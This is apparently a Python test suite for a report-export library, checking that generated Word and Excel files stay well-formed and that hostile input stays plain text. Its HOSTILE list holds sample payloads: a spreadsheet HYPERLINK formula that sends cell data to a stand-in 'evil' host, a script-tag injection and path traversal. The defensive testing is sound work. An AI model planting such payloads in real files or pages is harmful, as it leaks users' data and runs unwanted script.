"""Whatever a name or a label holds, every format is a whole file that reads back."""

import io
import xml.etree.ElementTree as ET
import zipfile

import docx
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from youthjustice.reports.formats.pictures import titled
from youthjustice.reports.formats.text import inert, printable
from youthjustice.reports.formats.word import document
from youthjustice.reports.formats.workbook import workbook

from .conftest import chart, content_of

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "<script>alert(1)</script>",
    "../../x",
    "x" * 5000,
    "nul \x00 bell \x07 esc \x1b",
    "no character \uffff \x85 \x9f",
    "]]> &amp; <w:p/> \"'",
    "_x0041_ {{ title }} $$n$$ [a](b)",
    "\u202e\u5012\U0001f600",
    "$\\frac{1}{0}$",
]


def well_formed(raw):
    with zipfile.ZipFile(io.BytesIO(raw)) as packed:
        assert packed.testzip() is None
        for name in packed.namelist():
            if name.endswith((".xml", ".rels")):
                ET.fromstring(packed.read(name))


def whole(words, area):
    """Write both documents and read them back; give the text of the one and the other's sheets."""
    content = content_of(words, area)
    paper, book = document(content), workbook(content)
    well_formed(paper)
    well_formed(book)
    sheets = openpyxl.load_workbook(io.BytesIO(book))
    assert all(
        cell.data_type != "f" for sheet in sheets for row in sheet.iter_rows() for cell in row
    )
    assert len({name.lower() for name in sheets.sheetnames}) == len(words) + 5
    assert max(map(len, sheets.sheetnames)) <= 31
    return docx.Document(io.BytesIO(paper)), sheets


def test_hostile_text_stays_text():
    read, _ = whole(HOSTILE, "=A1\x00" * 1000)
    text = "\n".join(one.text for one in read.paragraphs)
    assert all(f"{printable(word)} fell." in text for word in HOSTILE)
    outside = {one.target_ref for one in read.part.rels.values() if one.is_external}
    assert outside <= {"https://example.org/book", "b"}


def test_hostile_text_stays_text_in_a_drawing():
    ET.fromstring(titled(chart(word="".join(HOSTILE))))


@given(st.text(alphabet=st.characters(exclude_categories=[])))
def test_printable_text_can_stand_in_xml(text):
    told = printable(text)
    assert len(told) == len(text)
    told.encode()
    ET.fromstring(f"<a>{told.replace('&', '').replace('<', '')}</a>")


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n \x00a1'"), max_size=6))
def test_inert_text_starts_no_formula(text):
    told = inert(text)
    assert not told.lstrip().startswith(("=", "+", "-", "@"))
    assert not told.startswith(("\t", "\r", "\n"))
    assert told.removeprefix("'") == printable(text) or told == printable(text)


@pytest.mark.prove
@settings(max_examples=25)
@given(st.lists(st.text(min_size=1, max_size=40), max_size=3), st.text(min_size=1, max_size=40))
def test_any_words_give_whole_files(words, area):
    whole(words, area)
